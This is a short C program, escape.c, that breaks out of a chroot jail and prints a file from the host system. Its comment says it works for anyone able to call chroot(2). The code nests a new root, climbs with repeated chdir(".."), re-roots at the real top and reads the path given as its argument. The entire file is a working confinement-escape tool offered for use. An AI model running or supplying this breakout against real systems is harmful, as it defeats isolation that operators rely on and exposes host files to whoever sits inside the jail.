/* SPDX-License-Identifier: ISC */
/*
 * escape.c - leave a chroot(2), as everybody can who may call it
 *
 *	escape FILE
 *
 * A process whose working directory is outside of its root is stopped by
 * nothing on the way up.  So: change the root to a directory below, keep
 * the old place as the working directory, climb.  chroot(2) says so itself.
 * Prints FILE, a path on the host, if that worked.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int
give_up(const char *what)
{
	printf("%s: %s\n", what, strerror(errno));
	return 1;
}

int
main(int argc, char *argv[])
{
	char buffer[4096];
	size_t got;
	FILE *in;

	if (argc != 2)
		return 2;
	if (chdir("/") < 0 || (mkdir("escape", 0700) < 0 && errno != EEXIST))
		return give_up("mkdir");
	if (chroot("escape") < 0)
		return give_up("chroot");
	for (int n = 0; n < 256; n++)
		if (chdir("..") < 0)
			return give_up("climb");
	if (chroot(".") < 0)
		return give_up("chroot at the top");
	if ((in = fopen(argv[1], "re")) == NULL)
		return give_up(argv[1]);
	got = fread(buffer, 1, sizeof buffer, in);
	fwrite(buffer, 1, got, stdout);
	fclose(in);
	return 0;
}
